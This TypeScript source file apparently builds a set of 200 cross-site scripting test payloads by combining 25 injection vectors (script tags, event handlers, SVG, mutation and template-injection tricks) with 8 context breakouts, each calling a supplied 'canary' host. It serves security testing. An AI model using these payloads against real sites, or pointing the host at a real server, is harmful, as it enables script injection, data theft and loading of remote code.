/** What an attacker would like to run: it leaves a mark in the page and a word in the console of any window. */
function toCode(canary: string): string {
  return `globalThis.xssRan=1;console.log('xss ran');new Image().src='http://${canary}/'`
}

/** Ways to have it run, each a different door of HTML, SVG, CSS or a template engine. */
const seeds: readonly ((code: string, canary: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (_code, canary) => `<script src=//${canary}/x.js></script>`,
  (code) => `<img src=x onerror="${code}">`,
  (_code, canary) => `<img src="http://${canary}/pixel">`,
  (_code, canary) => `<img src="\\\\${canary.split(':')[0]}\\share\\x.png">`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<body onload="${code}">`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<details open ontoggle="${code}">`,
  (code) => `<video><source onerror="${code}"></video>`,
  (_code, canary) => `<iframe src="http://${canary}/frame"></iframe>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (_code, canary) => `<object data="http://${canary}/o"></object><embed src="http://${canary}/e">`,
  (_code, canary) => `<link rel=stylesheet href="http://${canary}/s.css">`,
  (_code, canary) => `<style>@import "http://${canary}/i.css";*{background:url(http://${canary}/b)}</style>`,
  (_code, canary) => `<meta http-equiv=refresh content="0;url=http://${canary}/m">`,
  (_code, canary) => `<base href="http://${canary}/"><script src=x.js></script>`,
  (_code, canary) => `<form action="http://${canary}/f"><button autofocus>x</button></form>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `{{constructor.constructor("${code}")()}}`,
  (code) => '${' + code + '}',
]

/** Where it might land: in text, in an attribute, in a title, a text area, a style, a script or a comment. */
const contexts: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `' autofocus x='>${payload}`,
  (payload) => `</title></textarea>${payload}`,
  (payload) => `</style></script>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>\u2028${payload}\u202e`,
  (payload) => `x=${payload}`.replace(/<(\w+)/g, (_tag, name: string) => `<${name.toUpperCase()}/`),
]

/** 200 hostile texts; `canary` is the host they would call. */
export function createXssPayloads(canary: string): readonly string[] {
  return contexts.flatMap((context) => seeds.map((seed) => context(seed(toCode(canary), canary))))
}
